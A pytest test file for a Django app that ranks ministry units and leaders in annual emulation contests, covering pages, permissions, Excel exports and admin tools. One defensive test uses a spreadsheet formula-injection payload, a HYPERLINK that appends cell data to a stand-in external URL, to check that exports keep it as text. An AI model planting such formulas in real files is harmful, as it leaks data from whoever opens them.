"""The emulation pages: ranking, breakdown, the ministry office's tools, the Excel file."""

import datetime
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from emulation import services
from emulation.choices import AuditAction, YearStatus
from emulation.models import AuditEntry, Criterion, EmulationYear, ManualScore, UnitScore
from tests.factories import PersonFactory, TenureFactory, UnitFactory, UserFactory

from .conftest import TODAY, YEAR, late, on_time, procedure_of, roll_up, some_statistics

D = datetime.date
pytestmark = pytest.mark.django_db
PAGE = f"/emulation/{YEAR}/"


@pytest.fixture
def ranked(scheme, unit_a, unit_a1, unit_b, officer_a, officer_b, office_staff, after_the_year):
    """A (with A1): one on time, one late; B: one on time and 35.5 manual points. Heads of A and B."""
    procedure_a = procedure_of(unit_a)
    procedure_of(unit_a1)
    on_time(procedure_a, officer_a, D(2026, 3, 2))
    late(procedure_a, officer_a, D(2026, 3, 9))
    on_time(procedure_of(unit_b), officer_b, D(2026, 3, 2))
    roll_up()
    services.manual_score_set(
        year=YEAR,
        unit=unit_b,
        criterion=scheme.criteria.get(code="reform"),
        points=Decimal("35.5"),
        evidence="Cổng một cửa điện tử",
        by=office_staff,
    )
    head_of_a = TenureFactory(person=PersonFactory(full_name="Vũ Tuấn Cường"), unit=unit_a, start_date=D(2024, 1, 1))
    TenureFactory(person=PersonFactory(full_name="Trần Văn Mới"), unit=unit_b, start_date=D(2026, 9, 1))
    services.emulation_compute(year=YEAR, today=TODAY)
    services.council_decision_record(year=YEAR, number="01/QĐ-HĐTĐKT", date=D(2026, 12, 16), by=None)
    return {"head_of_a": head_of_a}


def english(client):
    """The client with the language switcher set to English (pages ignore the browser's language)."""
    client.cookies["django_language"] = "en"
    return client


class TestRankingPage:
    def test_shows_units_and_leaders_with_ranks_and_band_badges(self, ranked, client, office_staff):
        client.force_login(office_staff)
        response = english(client).get(PAGE)
        assert response.status_code == 200
        page = response.content.decode()
        context = response.context
        assert [(s.unit.code, s.total, s.rank) for s in context["unit_scores"]] == [
            ("ATTP", Decimal("95.50"), 1),
            ("QLD", Decimal("33.33"), 2),
            ("QLD_KD", Decimal("0.00"), 3),
        ]
        assert 'class="badge band-outstanding text-bg-success">Tasks completed outstandingly</span>' in page
        assert 'class="badge band-not_completed text-bg-danger">Tasks not completed</span>' in page
        # The head of B took office on 1 September: listed, not classified.
        assert [(s.tenure.person.full_name, s.rank, s.classified) for s in context["leader_scores"]] == [
            ("Vũ Tuấn Cường", 1, True),
            ("Trần Văn Mới", None, False),
        ]
        assert "Not classified" in page
        # The units left out are named.
        assert [unit.code for unit in context["unscored_units"]] == ["BYT", "VPB"]

    def test_is_in_vietnamese_by_default(self, ranked, client, office_staff):
        client.force_login(office_staff)
        page = client.get(PAGE).content.decode()
        assert "Hoàn thành xuất sắc nhiệm vụ" in page

    def test_a_unit_head_sees_every_unit_but_opens_only_their_own_breakdowns(self, ranked, client, head_a):
        client.force_login(head_a)
        response = english(client).get(PAGE)
        page = response.content.decode()
        assert [s.unit.code for s in response.context["unit_scores"]] == ["ATTP", "QLD", "QLD_KD"]
        assert f'href="/emulation/{YEAR}/units/QLD/"' in page
        assert f'href="/emulation/{YEAR}/units/ATTP/"' not in page
        assert client.get(f"/emulation/{YEAR}/units/ATTP/").status_code == 403
        assert client.get(f"/emulation/{YEAR}/units/QLD_KD/").status_code == 200
        # No tools, no audit trail for a unit head.
        assert f"/emulation/{YEAR}/scheme/" not in page
        assert response.context["audit"] is None

    def test_an_officer_sees_their_own_unit_only(self, ranked, client, officer_b):
        client.force_login(officer_b)
        response = english(client).get(PAGE)
        assert [s.unit.code for s in response.context["unit_scores"]] == ["ATTP"]
        assert client.get(f"/emulation/{YEAR}/units/QLD/").status_code == 403
        assert client.get(f"/emulation/{YEAR}/leaders/{ranked['head_of_a'].pk}/").status_code == 403

    def test_anonymous_users_go_to_the_login_page_and_roleless_ones_are_refused(self, ranked, client):
        response = client.get(PAGE)
        assert (response.status_code, response["Location"]) == (302, f"/accounts/login/?next={PAGE}")
        client.force_login(UserFactory(username="nobody"))
        assert client.get(PAGE).status_code == 403
        assert client.get("/emulation/").status_code == 403

    def test_the_navigation_leads_here(self, ranked, client, officer_a):
        client.force_login(officer_a)
        assert 'href="/emulation/"' in client.get("/").content.decode()

    def test_an_unknown_year_is_a_404(self, ranked, client, office_staff):
        client.force_login(office_staff)
        assert client.get("/emulation/2031/").status_code == 404

    def test_queries_do_not_grow_with_the_number_of_units(self, ranked, client, office_staff, ministry):
        client.force_login(office_staff)
        client.get(PAGE)
        with CaptureQueriesContext(connection) as few:
            client.get(PAGE)
        for index in range(6):
            unit = UnitFactory(code=f"EXTRA{index}", parent=ministry)
            some_statistics(unit, procedure_of(unit))
            TenureFactory(unit=unit, start_date=D(2025, 1, 1))
        services.emulation_compute(year=YEAR, today=TODAY)
        with CaptureQueriesContext(connection) as many:
            response = client.get(PAGE)
        assert len(response.context["unit_scores"]) == 9
        assert len(many) == len(few)


class TestBreakdownPage:
    def test_lists_each_criterion_with_links_to_the_dossiers_behind_it(self, ranked, client, head_a):
        client.force_login(head_a)
        response = english(client).get(f"/emulation/{YEAR}/units/QLD/")
        page = response.content.decode()
        assert response.status_code == 200
        lines = {item.line.code: item.line for item in response.context["lines"]}
        assert (lines["on-time"].value, lines["on-time"].points, lines["on-time"].max_points) == (
            Decimal("50.00"),
            Decimal("33.33"),
            Decimal("60.00"),
        )
        assert (
            'href="/dossiers/?subtree=QLD&amp;ended_from=2025-12-15&amp;ended_to=2026-12-14&amp;timeliness=late"'
            in page
        )
        assert "(early + on time) / resolved: 1 / 2" in page
        assert "not scored yet" in page

    def test_the_linked_dossier_list_holds_exactly_the_late_dossier(self, ranked, client, head_a):
        client.force_login(head_a)
        response = client.get("/dossiers/?subtree=QLD&ended_from=2025-12-15&ended_to=2026-12-14&timeliness=late")
        assert [dossier.received_on for dossier in response.context["dossiers"]] == [D(2026, 3, 9)]

    def test_a_not_applicable_criterion_says_so_and_the_total_is_scaled(self, ranked, client, office_staff):
        client.force_login(office_staff)
        page = english(client).get(f"/emulation/{YEAR}/units/QLD_KD/").content.decode()
        assert "n/a" in page
        assert "Some criteria did not apply: 0.00 of 40 points, scaled to 0.00 out of 100." in page

    def test_a_leaders_breakdown_shows_their_window(self, ranked, client, office_staff):
        client.force_login(office_staff)
        page = english(client).get(f"/emulation/{YEAR}/leaders/{ranked['head_of_a'].pk}/").content.decode()
        assert "15/12/2025 – 14/12/2026" in page
        assert "Vũ Tuấn Cường" in page


class TestExcel:
    def test_the_ranking_downloads_with_vietnamese_headings(self, ranked, client, office_staff):
        client.force_login(office_staff)
        response = client.get(f"/emulation/{YEAR}/export.xlsx")
        assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        assert response["Content-Disposition"] == 'attachment; filename="thi-dua-2026.xlsx"'
        workbook = load_workbook(io.BytesIO(response.content))
        assert workbook.sheetnames == ["Đơn vị", "Lãnh đạo"]
        units = [row for row in workbook["Đơn vị"].iter_rows(values_only=True) if any(row)]
        assert units[3] == (
            "Xếp hạng",
            "Mã đơn vị",
            "Tên đơn vị",
            "Tổng điểm",
            "Xếp loại",
            "Tiêu chí on-time (tối đa 60,00)",
            "Tiêu chí reform (tối đa 40,00)",
            "Xếp loại theo điểm",
            "Tỷ lệ hồ sơ chậm tiến độ (%)",
            "Căn cứ xếp loại",
        )
        assert units[4] == (
            1,
            "ATTP",
            "Cục An toàn thực phẩm",
            95.5,
            "Hoàn thành xuất sắc nhiệm vụ",
            60.0,
            35.5,
            "Hoàn thành xuất sắc nhiệm vụ",
            0.0,
            None,
        )
        assert units[6][:7] == (
            3,
            "QLD_KD",
            "Phòng Quản lý kinh doanh dược",
            0.0,
            "Không hoàn thành nhiệm vụ",
            None,
            0.0,
        )
        # QLD: 33.33 points, "not completed" by the points already; half its dossiers late.
        assert units[5][7:] == ("Không hoàn thành nhiệm vụ", 50.0, None)
        assert "Quyết định của Hội đồng thi đua, khen thưởng số 01/QĐ-HĐTĐKT ngày 16/12/2026" in units[2][0]
        leaders = [row for row in workbook["Lãnh đạo"].iter_rows(values_only=True) if any(row)]
        assert leaders[3][8:10] == ("Tiêu chí on-time (tối đa 60,00)", "Tiêu chí reform (tối đa 40,00)")
        assert leaders[4][:3] == (1, "Vũ Tuấn Cường", "QLD – Cục Quản lý Dược")
        assert leaders[5][0] is None
        assert leaders[5][7] == "Không xếp loại (thời gian giữ chức vụ chưa đủ)"

    def test_the_monthly_tracking_sheet_has_a_sheet_per_head(self, ranked, client, office_staff):
        client.force_login(office_staff)
        response = client.get(f"/emulation/{YEAR}/tracking.xlsx")
        assert response["Content-Disposition"] == 'attachment; filename="theo-doi-hang-thang-2026.xlsx"'
        workbook = load_workbook(io.BytesIO(response.content))
        assert workbook.sheetnames == ["Tổng hợp", "QLD Vũ Tuấn Cường", "ATTP Trần Văn Mới"]
        summary = [row for row in workbook["Tổng hợp"].iter_rows(values_only=True) if any(row)]
        assert summary[3][:3] == ("Họ và tên", "Đơn vị", "Tháng 1")
        assert summary[4][:2] == ("Vũ Tuấn Cường", "QLD")
        months = [row for row in workbook["QLD Vũ Tuấn Cường"].iter_rows(values_only=True) if any(row)]
        assert months[3][:4] == ("Tháng", "Từ ngày", "Đến ngày", "Tiêu chí on-time (tối đa 60,00)")
        assert [row[0] for row in months[4:]] == [f"Tháng {number}" for number in range(1, 13)]

    def test_an_officer_gets_the_tracking_of_their_own_units_heads_only(self, ranked, client, officer_b):
        client.force_login(officer_b)
        workbook = load_workbook(io.BytesIO(client.get(f"/emulation/{YEAR}/tracking.xlsx").content))
        assert workbook.sheetnames == ["Tổng hợp", "ATTP Trần Văn Mới"]

    def test_names_that_look_like_formulas_stay_text(self, ranked, client, office_staff, unit_b):
        """Issue 14, item 5: a unit named like a formula must not become a live one in the workbook."""
        unit_b.name_vi = '=HYPERLINK("http://x.example/?"&A1,"Xem")'
        unit_b.save()
        ranked["head_of_a"].person.full_name = "@SUM(1+1)"
        ranked["head_of_a"].person.save()
        client.force_login(office_staff)
        workbook = load_workbook(io.BytesIO(client.get(f"/emulation/{YEAR}/export.xlsx").content))
        cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        units = {cell.value: cell for cell in cells if cell.value == unit_b.name_vi}
        leaders = {cell.value: cell for cell in cells if cell.value == "@SUM(1+1)"}
        assert units[unit_b.name_vi].quotePrefix and units[unit_b.name_vi].data_type == "s"
        assert leaders["@SUM(1+1)"].quotePrefix

    def test_an_officer_downloads_their_own_unit_only_without_the_breakdown(self, ranked, client, officer_a):
        client.force_login(officer_a)
        workbook = load_workbook(io.BytesIO(client.get(f"/emulation/{YEAR}/export.xlsx").content))
        rows = [row for row in workbook["Đơn vị"].iter_rows(values_only=True) if any(row)]
        assert rows[3:] == [
            (
                "Xếp hạng",
                "Mã đơn vị",
                "Tên đơn vị",
                "Tổng điểm",
                "Xếp loại",
                "Xếp loại theo điểm",
                "Tỷ lệ hồ sơ chậm tiến độ (%)",
                "Căn cứ xếp loại",
            ),
            (2, "QLD", "Cục Quản lý Dược", 33.33, "Không hoàn thành nhiệm vụ", "Không hoàn thành nhiệm vụ", 50.0, None),
        ]


class TestTools:
    @pytest.mark.parametrize("path", ["scheme/", "manual/", "finalise/", "reopen/"])
    def test_are_for_the_ministry_office_only(self, ranked, client, head_a, auditor, path):
        for user in (head_a, auditor):
            client.force_login(user)
            assert client.get(f"{PAGE}{path}").status_code == 403
        assert client.post(f"{PAGE}compute/").status_code == 403

    def test_recompute_button(self, ranked, client, office_staff, unit_b):
        client.force_login(office_staff)
        ManualScore.objects.filter(unit=unit_b).update(points=Decimal(40))
        response = english(client).post(f"{PAGE}compute/", follow=True)
        assert response.redirect_chain == [(PAGE, 302)]
        assert "The scores of 2026 have been recomputed." in response.content.decode()
        assert UnitScore.objects.get(unit=unit_b).total == Decimal("100.00")

    def test_scheme_editor_refuses_a_sum_other_than_100_and_names_it(self, ranked, client, office_staff):
        client.force_login(office_staff)
        data = scheme_post([("on-time", "Đúng hạn", "on_time_rate", "90", "60"), ("reform", "Sáng kiến", "", "", "35")])
        response = english(client).post(f"{PAGE}scheme/", data)
        assert response.status_code == 400
        assert "The criteria of 2026 add up to 95.00 points; they must add up to exactly 100." in (
            response.content.decode()
        )
        assert Criterion.objects.get(code="reform").max_points == Decimal(40)

    def test_scheme_editor_puts_a_bad_target_on_its_field(self, ranked, client, office_staff):
        client.force_login(office_staff)
        data = scheme_post(
            [("on-time", "Đúng hạn", "on_time_rate", "120", "60"), ("reform", "Sáng kiến", "", "", "40")]
        )
        response = english(client).post(f"{PAGE}scheme/", data)
        assert response.status_code == 400
        assert response.context["formset"].forms[0].errors == {
            "target": ["The target is a percentage above 0 and at most 100."]
        }

    def test_scheme_editor_saves_and_audits(self, ranked, client, office_staff):
        client.force_login(office_staff)
        data = scheme_post(
            [
                ("on-time", "Đúng hạn", "on_time_rate", "90", "50"),
                ("reform", "Sáng kiến", "", "", "40"),
                ("online", "Trực tuyến", "online_rate", "50", "10"),
            ]
        )
        response = client.post(f"{PAGE}scheme/", data)
        assert (response.status_code, response["Location"]) == (302, PAGE)
        assert list(Criterion.objects.order_by("position").values_list("code", "max_points")) == [
            ("on-time", Decimal("50.00")),
            ("reform", Decimal("40.00")),
            ("online", Decimal("10.00")),
        ]
        assert AuditEntry.objects.filter(action=AuditAction.SCHEME_CHANGED).count() == 2  # the fixture's, this one
        assert EmulationYear.objects.get(year=YEAR).is_stale is True
        page = english(client).get(PAGE).content.decode()
        assert "the ranking below is out of date" in page
        assert "+ Trực tuyến (10.00 points, Online rate, target 50.00%)" in page  # its name, not its code

    def test_manual_points_form_refuses_points_above_the_maximum(self, ranked, client, office_staff, unit_a):
        client.force_login(office_staff)
        data = {"unit": "QLD", "criterion": "reform", "points": "41", "evidence": "Đề án"}
        response = english(client).post(f"{PAGE}manual/", data)
        assert response.status_code == 400
        assert response.context["form"].errors == {"points": ["At most 40.00 points for this criterion."]}
        assert not ManualScore.objects.filter(unit=unit_a).exists()

    def test_manual_points_form_saves_and_the_year_page_shows_the_audit(self, ranked, client, office_staff, unit_a):
        client.force_login(office_staff)
        data = {"unit": "QLD", "criterion": "reform", "points": "12.5", "evidence": "Đề án số hoá"}
        assert client.post(f"{PAGE}manual/", data).status_code == 302
        assert ManualScore.objects.get(unit=unit_a).points == Decimal("12.5")
        page = english(client).get(PAGE).content.decode()
        assert "Manual points changed" in page
        assert "Points: — → 12.50" in page

    def test_finalise_asks_for_confirmation_then_freezes(self, ranked, client, office_staff):
        client.force_login(office_staff)
        unconfirmed = english(client).post(f"{PAGE}finalise/", {})
        assert unconfirmed.status_code == 400
        assert EmulationYear.objects.get(year=YEAR).status == YearStatus.DRAFT

        assert client.post(f"{PAGE}finalise/", {"confirm": "on"}).status_code == 302
        assert EmulationYear.objects.get(year=YEAR).status == YearStatus.FINALISED

    def test_a_finalised_year_refuses_every_change_with_a_message(self, ranked, client, office_staff, unit_a):
        services.emulation_finalise(year=YEAR, by=office_staff, today=TODAY)
        client.force_login(office_staff)
        before = list(UnitScore.objects.values_list("unit__code", "total", "rank"))

        recompute = english(client).post(f"{PAGE}compute/", follow=True)
        assert "Year 2026 is finalised: its scores can no longer be recomputed." in recompute.content.decode()

        manual = client.post(
            f"{PAGE}manual/",
            {"unit": "QLD", "criterion": "reform", "points": "10", "evidence": "x"},
        )
        assert manual.status_code == 409
        assert "its manual points can no longer be changed" in manual.content.decode()

        scheme = client.post(
            f"{PAGE}scheme/",
            scheme_post([("on-time", "Đúng hạn", "on_time_rate", "90", "60"), ("reform", "Sáng kiến", "", "", "40")]),
        )
        assert scheme.status_code == 409
        assert "its scoring scheme can no longer be changed" in scheme.content.decode()

        assert list(UnitScore.objects.values_list("unit__code", "total", "rank")) == before
        assert not ManualScore.objects.filter(unit=unit_a).exists()

    def test_reopen_needs_a_reason_and_shows_it_in_the_audit_trail(self, ranked, client, office_staff):
        services.emulation_finalise(year=YEAR, by=office_staff, today=TODAY)
        client.force_login(office_staff)
        assert client.post(f"{PAGE}reopen/", {"reason": ""}).status_code == 400
        assert EmulationYear.objects.get(year=YEAR).is_finalised

        assert client.post(f"{PAGE}reopen/", {"reason": "Sai sót điểm sáng kiến của Cục ATTP"}).status_code == 302
        page = english(client).get(PAGE).content.decode()
        assert EmulationYear.objects.get(year=YEAR).status == YearStatus.DRAFT
        assert "Year reopened" in page
        assert "Reason: Sai sót điểm sáng kiến của Cục ATTP" in page
        assert "Status: Finalised → Draft" in page

    def test_a_new_year_starts_as_a_copy(self, ranked, client, office_staff):
        client.force_login(office_staff)
        response = client.post("/emulation/", {"year": "2027", "copy_from": "2026"})
        assert (response.status_code, response["Location"]) == (302, "/emulation/2027/scheme/")
        assert list(Criterion.objects.filter(year__year=2027).values_list("code", flat=True)) == ["on-time", "reform"]
        again = english(client).post("/emulation/", {"year": "2027", "copy_from": "2026"})
        assert again.status_code == 400
        assert again.context["create_form"].errors == {"year": ["Year 2027 already has criteria; edit them instead."]}


def scheme_post(rows, *, extra=2):
    """The scheme editor's POST: settings, then the criteria rows and empty extra rows."""
    year = EmulationYear.objects.get(year=YEAR)
    ids = dict(year.criteria.values_list("code", "pk"))
    data = {
        "outstanding_min": "90",
        "good_min": "70",
        "completed_min": "50",
        "min_tenure_months": "6",
        "criteria-TOTAL_FORMS": str(len(rows) + extra),
        "criteria-INITIAL_FORMS": "0",
        "criteria-MIN_NUM_FORMS": "0",
        "criteria-MAX_NUM_FORMS": "50",
    }
    for index, (code, name, metric, target, points) in enumerate(rows):
        prefix = f"criteria-{index}-"
        data.update(
            {
                f"{prefix}id": ids.get(code, ""),
                f"{prefix}code": code,
                f"{prefix}name_vi": name,
                f"{prefix}name_en": "",
                f"{prefix}metric": metric,
                f"{prefix}target": target,
                f"{prefix}max_points": points,
            }
        )
    return data
